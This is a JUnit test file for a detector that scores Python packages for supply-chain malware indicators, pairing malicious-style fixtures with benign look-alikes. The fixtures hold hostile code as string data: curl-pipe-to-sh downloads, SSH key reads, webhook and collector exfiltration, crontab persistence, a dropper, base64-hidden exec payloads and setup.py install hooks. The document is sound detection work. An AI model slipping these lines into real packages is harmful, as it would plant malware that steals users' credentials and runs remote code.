package dev.fang.featurize.features;

import static dev.fang.featurize.features.Fixtures.lines;
import static dev.fang.featurize.features.Fixtures.pkg;
import static org.assertj.core.api.Assertions.assertThat;

import dev.fang.schema.Evidence;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;

/**
 * One malicious-style fixture and one benign look-alike per family. The snippets are text only: nothing is
 * ever executed. Analyses come from {@link NaiveAnalyzer} so that the families are tested on their own.
 */
class FamilyFixturesTest {

    static final PackageFeaturizer FEATURIZER =
            new PackageFeaturizer(PackageFeaturizer.Limits.defaults(), new NaiveAnalyzer());

    static FeatureResult run(PackageContents p) {
        FeatureResult r = FEATURIZER.featurize(p);
        assertThat(r.values()).hasSize(FeatureCatalogue.size());
        assertThat(r.catalogueVersion()).isEqualTo(FeatureCatalogue.VERSION);
        return r;
    }

    static void assertEvidence(FeatureResult r, String feature, String file, int line) {
        assertThat(r.evidenceFor(feature)).as("evidence of %s", feature)
                .anySatisfy(e -> {
                    assertThat(e.getFile()).isEqualTo(file);
                    assertThat(e.getLine()).isEqualTo(line);
                });
    }

    static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void shape() {
        String packed = "exec('" + "x=1;".repeat(600) + "')";
        FeatureResult bad = run(pkg("demo/__init__.py", lines("import os", packed)));
        FeatureResult good = run(pkg("demo/__init__.py", lines("import os", "", "def f(x):", "    return x + 1")));
        assertThat(bad.value("import_line_length_max")).isGreaterThan(2000);
        assertThat(bad.value("import_long_lines")).isEqualTo(1);
        assertThat(good.value("import_long_lines")).isZero();
        assertThat(bad.value("import_whitespace_share_min")).isLessThan(good.value("import_whitespace_share_min"));
        assertEvidence(bad, "import_line_length_max", "demo/__init__.py", 2);
    }

    @Test
    void operators() {
        FeatureResult bad = run(pkg("demo/m.py", lines("c = 'o' + 's' + '.' + 'sy' + 'st' + 'em'", "d = c[0] + c[1]")));
        FeatureResult good = run(pkg("demo/m.py", lines("def greet(name):", "    return 'hello ' + name")));
        assertThat(bad.value("import_op_plus")).isGreaterThan(good.value("import_op_plus"));
        assertThat(bad.value("import_op_bracket")).isGreaterThan(good.value("import_op_bracket"));
        assertThat(bad.evidenceFor("import_op_plus")).extracting(Evidence::getFile).containsOnly("demo/m.py");
    }

    @Test
    void networkIndicators() {
        FeatureResult bad = run(pkg("demo/net.py", lines(
                "import urllib.request",
                "urllib.request.urlopen('http://185.62.13.77:4444/stage2.sh')")));
        FeatureResult good = run(pkg("demo/net.py", lines(
                "DOCS = 'https://docs.python.org/3/library/'",
                "LOCAL = '10.0.0.1'",
                "VERSION = 'v1.2.3.4'")));
        assertThat(bad.value("import_ip_public_distinct")).isEqualTo(1);
        assertThat(bad.value("import_ip_endpoints")).isEqualTo(1);
        assertThat(bad.value("import_ip_near_api")).isEqualTo(1);
        assertThat(bad.value("import_url_executable_download")).isEqualTo(1);
        assertThat(bad.value("import_url_unusual_port")).isEqualTo(1);
        assertThat(bad.value("import_url_near_api")).isEqualTo(1);
        assertEvidence(bad, "import_ip_near_api", "demo/net.py", 2);
        for (String f : new String[] {"import_ip_public_distinct", "import_ip_endpoints", "import_url_hosts_unpopular",
            "import_url_executable_download", "import_url_near_api"}) {
            assertThat(good.value(f)).as(f).isZero();
        }
        assertThat(good.value("import_url_distinct")).isEqualTo(1);
    }

    @Test
    void suspiciousStrings() {
        FeatureResult bad = run(pkg("demo/steal.py", lines(
                "import os",
                "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
                "HOOK = 'https://discord.com/api/webhooks/123/abc'",
                "os.system('curl -s http://example.invalid/a | sh')",
                "os.system('(crontab -l; echo x) | crontab -')")));
        FeatureResult good = run(pkg("demo/ssh.py", lines(
                "MSG = 'ssh connection established'",
                "INVITE = 'https://discord.gg/community'",
                "HELP = 'use curl or wget to download the docs'")));
        assertThat(bad.value("import_sus_credentials")).isEqualTo(2);   // .ssh/ and id_rsa
        assertThat(bad.value("import_sus_exfil_services")).isEqualTo(1);
        assertThat(bad.value("import_sus_download_exec")).isGreaterThanOrEqualTo(1);
        assertThat(bad.value("import_sus_persistence")).isEqualTo(1);
        assertEvidence(bad, "import_sus_exfil_services", "demo/steal.py", 3);
        assertThat(good.value("import_sus_total")).isZero();
    }

    @Test
    void fileTypes() {
        FeatureResult bad = run(pkg(
                "demo/__init__.py", "",
                "demo/bin/payload.exe", "MZ",
                "demo/run.sh", "#!/bin/sh",
                "demo/__pycache__/hidden.cpython-311.pyc", "x"));
        FeatureResult good = run(pkg(
                "demo/__init__.py", "",
                "demo/mod.py", "",
                "demo/__pycache__/mod.cpython-311.pyc", "x",
                "README.md", "# demo",
                "LICENSE", "MIT"));
        assertThat(bad.value("pkg_ext_exe")).isEqualTo(1);
        assertThat(bad.value("pkg_ext_sh")).isEqualTo(1);
        assertThat(bad.value("pkg_ext_pyc_orphan")).isEqualTo(1);
        assertThat(good.value("pkg_ext_pyc_orphan")).isZero();
        assertThat(good.value("pkg_ext_py")).isEqualTo(2);
        assertThat(bad.evidenceFor("pkg_ext_exe")).extracting(Evidence::getFile).containsExactly("demo/bin/payload.exe");
    }

    @Test
    void installHooks() {
        FeatureResult bad = run(pkg("demo-1.0/setup.py", lines(
                "import os",
                "from setuptools import setup",
                "from setuptools.command.install import install",
                "",
                "class PostInstall(install):",
                "    def run(self):",
                "        install.run(self)",
                "        os.system('id')",
                "",
                "os.system('whoami')",
                "setup(name='demo', version='1.0', cmdclass={'install': PostInstall})")));
        FeatureResult good = run(pkg("demo-1.0/setup.py", lines(
                "from setuptools import setup, find_packages",
                "with open('README.md') as f:",
                "    long_description = f.read()",
                "setup(name='demo', version='1.0', packages=find_packages(), long_description=long_description)")));
        assertThat(bad.value("install_hook_cmdclass")).isEqualTo(1);
        assertThat(bad.value("install_hook_install_subclasses")).isEqualTo(1);
        assertThat(bad.value("install_hook_run_overrides")).isEqualTo(1);
        assertThat(bad.value("install_hook_module_level_risky")).isEqualTo(1);
        assertEvidence(bad, "install_hook_install_subclasses", "demo-1.0/setup.py", 5);
        assertEvidence(bad, "install_hook_module_level_risky", "demo-1.0/setup.py", 10);
        for (String f : new String[] {"install_hook_cmdclass", "install_hook_command_subclasses",
            "install_hook_module_level_risky", "install_api_command_sites"}) {
            assertThat(good.value(f)).as(f).isZero();
        }
        // setup.py is install-time code only
        assertThat(bad.value("import_api_command_sites")).isZero();
    }

    @Test
    void buildConfigurationHooks() {
        FeatureResult bad = run(pkg(
                "demo-1.0/pyproject.toml", lines(
                        "[build-system]",
                        "requires = ['setuptools', 'helper @ https://example.invalid/helper.zip']",
                        "build-backend = 'backend'",
                        "backend-path = ['_build']"),
                "demo-1.0/_build/backend.py", lines(
                        "import os",
                        "os.system('id')",
                        "def build_wheel(*a):",
                        "    pass"),
                "demo-1.0/setup.cfg", lines(
                        "[easy_install]",
                        "index_url = https://mirror.example.invalid/simple")));
        FeatureResult good = run(pkg(
                "demo-1.0/pyproject.toml", lines(
                        "[build-system]",
                        "requires = ['setuptools>=61', 'wheel']",
                        "build-backend = 'setuptools.build_meta'"),
                "demo-1.0/demo/__init__.py", ""));
        assertThat(bad.value("install_cfg_in_tree_backend")).isEqualTo(1);
        assertThat(bad.value("install_cfg_unknown_backend")).isEqualTo(1);
        assertThat(bad.value("install_cfg_url_requirements")).isEqualTo(1);
        assertThat(bad.value("install_cfg_custom_index")).isEqualTo(1);
        assertThat(bad.value("install_cfg_hook_modules")).isEqualTo(1);
        assertThat(bad.value("install_modlevel_command")).isEqualTo(1);
        assertThat(bad.value("import_modlevel_command")).isEqualTo(1);   // still importable code
        assertEvidence(bad, "install_cfg_in_tree_backend", "demo-1.0/pyproject.toml", 4);
        for (Feature f : FeatureCatalogue.family(Family.BUILD_CONFIG)) {
            assertThat(good.value(f.name())).as(f.name()).isZero();
        }
    }

    @Test
    void entropy() {
        String blob = "Zm9yIGkgaW4gcmFuZ2UoMTApOgogICAgcHJpbnQoaSkKX19pbXBvcnRfXygnb3MnKQp4PTE3MzY0OTI4MzY0OTI4NzM2NDkyODM3NDY";
        FeatureResult bad = run(pkg("demo/x.py", lines(
                "O0O0O0O0 = '" + blob + "'",
                "lIlIlIlI = O0O0O0O0[::-1]",
                "_0x1f3a = lIlIlIlI")));
        FeatureResult good = run(pkg("demo/x.py", lines(
                "greeting_message = 'Hello, world! This is a friendly message for every user of the library.'",
                "def print_greeting(user_name):",
                "    return greeting_message + user_name")));
        assertThat(bad.value("import_machine_identifiers")).isEqualTo(3);
        assertThat(bad.value("import_high_entropy_strings")).isEqualTo(1);
        assertThat(bad.value("import_string_entropy_max")).isGreaterThan(good.value("import_string_entropy_max"));
        assertThat(good.value("import_machine_identifiers")).isZero();
        assertThat(good.value("import_high_entropy_strings")).isZero();
        assertEvidence(bad, "import_high_entropy_strings", "demo/x.py", 1);
    }

    @Test
    void apiUsage() {
        FeatureResult bad = run(pkg("demo/c2.py", lines(
                "import socket, subprocess, requests",
                "s = socket.socket()",
                "requests.post('https://collector.example.invalid', data='x')",
                "subprocess.Popen(['sh'])")));
        FeatureResult good = run(pkg("demo/util.py", lines(
                "import json, os",
                "def load(p):",
                "    return json.loads(os.path.join(p, 'x'))")));
        assertThat(bad.value("import_api_network_distinct")).isEqualTo(2);
        assertThat(bad.value("import_api_command_sites")).isEqualTo(1);
        assertThat(bad.value("import_api_net_socket")).isEqualTo(1);
        assertThat(bad.value("import_api_net_http")).isEqualTo(1);
        assertEvidence(bad, "import_api_cmd_process", "demo/c2.py", 4);
        for (ApiCategory c : ApiCategory.values()) {
            assertThat(good.value("import_api_" + c.id() + "_sites")).as(c.id()).isZero();
        }
    }

    @Test
    void behaviours() {
        FeatureResult bad = run(pkg(
                "demo/drop.py", lines(
                        "import urllib.request, subprocess, os",
                        "data = urllib.request.urlopen('http://files.example.invalid/x').read()",
                        "with open('/tmp/x', 'wb') as f:",
                        "    f.write(data)",
                        "os.chmod('/tmp/x', 0o755)",
                        "subprocess.Popen(['/tmp/x'])"),
                "demo/steal.py", lines(
                        "import platform, getpass, requests",
                        "info = platform.node() + getpass.getuser()",
                        "requests.post('https://collector.example.invalid', data=info)")));
        FeatureResult good = run(pkg(
                "demo/tool.py", lines(
                        "import urllib.request, subprocess",
                        "rev = subprocess.run(['git', 'describe'])",
                        "page = urllib.request.urlopen('https://pypi.org/simple/').read()",
                        "with open('cache.html', 'w') as f:",
                        "    f.write(page)")));
        assertThat(bad.value("import_beh_dropper")).isEqualTo(1);
        assertThat(bad.value("import_beh_download_execute")).isEqualTo(1);
        assertThat(bad.value("import_beh_info_stealing")).isEqualTo(1);
        assertEvidence(bad, "import_beh_dropper", "demo/drop.py", 6);
        assertEvidence(bad, "import_beh_info_stealing", "demo/steal.py", 3);
        for (Feature f : FeatureCatalogue.family(Family.BEHAVIOURS)) {
            assertThat(good.value(f.name())).as(f.name()).isZero();
        }
    }

    @Test
    void obfuscationAndDecodedPayloads() {
        String payload = "import os\nos.system('curl http://185.62.13.77/a | sh')\n";
        FeatureResult bad = run(pkg("demo/__init__.py", lines(
                "import base64",
                "exec(base64.b64decode('" + b64(payload) + "'))")));
        FeatureResult good = run(pkg("demo/__init__.py", lines(
                "import base64",
                "TOKEN = base64.b64encode(b'user:password')")));
        assertThat(bad.value("import_obf_base_n")).isEqualTo(1);
        assertThat(bad.value("import_dec_payloads")).isEqualTo(1);
        assertThat(bad.value("import_dec_payload_depth_max")).isEqualTo(1);
        assertThat(bad.value("import_dec_exec_apis")).isEqualTo(1);
        assertThat(bad.value("import_dec_ips")).isEqualTo(1);
        assertThat(bad.value("import_dec_suspicious")).isGreaterThanOrEqualTo(1);
        assertThat(bad.value("import_beh_obfuscated_execution")).isEqualTo(1);
        assertThat(bad.value("import_modlevel_code")).isEqualTo(1);
        assertEvidence(bad, "import_dec_exec_apis", "demo/__init__.py", 2);
        assertThat(bad.evidenceFor("import_dec_ips")).anySatisfy(e -> assertThat(e.getDecoded()).contains("185.62.13.77"));
        for (Feature f : FeatureCatalogue.family(Family.DECODED)) {
            assertThat(good.value(f.name())).as(f.name()).isZero();
        }
        assertThat(good.value("import_beh_obfuscated_execution")).isZero();
    }

    @Test
    void indicatorsSeenPlainlyAreNotCountedAsDecodedOnly() {
        String hidden = "http://185.62.13.77/x";
        FeatureResult r = run(pkg("demo/m.py", lines(
                "import base64",
                "A = '" + hidden + "'",
                "B = base64.b64decode('" + b64(hidden) + "')")));
        assertThat(r.value("import_url_distinct")).isEqualTo(1);
        assertThat(r.value("import_dec_urls")).isZero();
        assertThat(r.value("import_dec_strings")).isEqualTo(1);
    }

    @Test
    void apiObfuscation() {
        FeatureResult bad = run(pkg("demo/m.py", lines(
                "import subprocess as sp",
                "sp.Popen(['id'])")));
        FeatureResult good = run(pkg("demo/m.py", lines(
                "import subprocess",
                "subprocess.run(['git', 'status'])")));
        assertThat(bad.value("import_apiobf_import_alias")).isEqualTo(1);
        assertThat(bad.value("import_apiobf_only_hidden")).isEqualTo(1);
        assertThat(bad.value("import_obf_api_references")).isEqualTo(1);
        assertEvidence(bad, "import_apiobf_import_alias", "demo/m.py", 2);
        for (Feature f : FeatureCatalogue.family(Family.API_OBFUSCATION)) {
            assertThat(good.value(f.name())).as(f.name()).isZero();
        }
    }

    @Test
    void moduleLevelCode() {
        FeatureResult bad = run(pkg("demo/__init__.py", lines(
                "import os",
                "os.system('id')")));
        FeatureResult good = run(pkg("demo/__init__.py", lines(
                "import os",
                "def run_tool():",
                "    os.system('make docs')")));
        assertThat(bad.value("import_modlevel_command")).isEqualTo(1);
        assertThat(good.value("import_modlevel_command")).isZero();
        assertThat(good.value("import_api_command_sites")).isEqualTo(1);
        assertEvidence(bad, "import_modlevel_command", "demo/__init__.py", 2);
    }

    @Test
    void behavioursAndCategoriesOnLoad() {
        FeatureResult bad = run(pkg("demo/__init__.py", lines(
                "import platform, requests",
                "info = platform.node()",
                "requests.post('https://collector.example.invalid', data=info)")));
        // the same steps in a library function nothing calls on load, and other categories in another file
        FeatureResult good = run(pkg(
                "demo/__init__.py", lines(
                        "import platform, requests",
                        "def report(url):",
                        "    info = platform.node()",
                        "    requests.post(url, data=info)"),
                "demo/version.py", lines(
                        "import subprocess",
                        "REV = subprocess.check_output(['git', 'describe'])")));
        assertThat(bad.value("import_beh_info_stealing")).isEqualTo(1);
        assertThat(bad.value("import_beh_on_load")).isEqualTo(1);
        assertThat(bad.value("import_modlevel_categories_max")).isEqualTo(2);
        assertEvidence(bad, "import_beh_on_load", "demo/__init__.py", 3);
        assertThat(good.value("import_beh_info_stealing")).isEqualTo(1);
        assertThat(good.value("import_beh_on_load")).isZero();
        assertThat(good.value("import_modlevel_categories_max")).isEqualTo(1);
    }

    @Test
    void parseQuality() {
        FeatureResult bad = run(pkg(
                "demo/ok.py", lines("x = 1"),
                "demo/broken.py", lines("def f(:", "    return ((", "x = 1")));
        FeatureResult good = run(pkg("demo/ok.py", lines("x = 1")));
        assertThat(bad.value("import_parse_quality_min")).isLessThan(1.0);
        assertThat(bad.value("import_parse_errors_max")).isPositive();
        assertThat(good.value("import_parse_quality_min")).isEqualTo(1.0);
        assertThat(good.value("import_parse_quality_mean")).isEqualTo(1.0);
        assertThat(bad.evidenceFor("import_parse_quality_min")).extracting(Evidence::getFile).contains("demo/broken.py");
    }

    @Test
    void everyNonZeroFeatureHasEvidenceWithinTheCaps() {
        FeatureResult r = run(pkg(
                "demo-1.0/setup.py", lines("import os", "from setuptools import setup", "os.system('curl http://x.invalid | sh')",
                        "setup(name='demo')"),
                "demo-1.0/demo/__init__.py", lines("import socket, subprocess, platform",
                        "s = socket.socket()", "subprocess.Popen(['sh'])", "platform.node()")));
        double[] v = r.values();
        for (Feature f : FeatureCatalogue.features()) {
            if (v[f.index()] != 0) {
                assertThat(r.evidenceFor(f.name())).as("evidence for %s", f.name()).isNotEmpty();
            }
            assertThat(r.evidenceFor(f.name()).size()).isLessThanOrEqualTo(PackageFeaturizer.EVIDENCE_PER_FEATURE);
        }
        assertThat(r.evidence().size()).isLessThanOrEqualTo(PackageFeaturizer.EVIDENCE_PER_PACKAGE);
        assertThat(r.partial()).isFalse();
    }
}
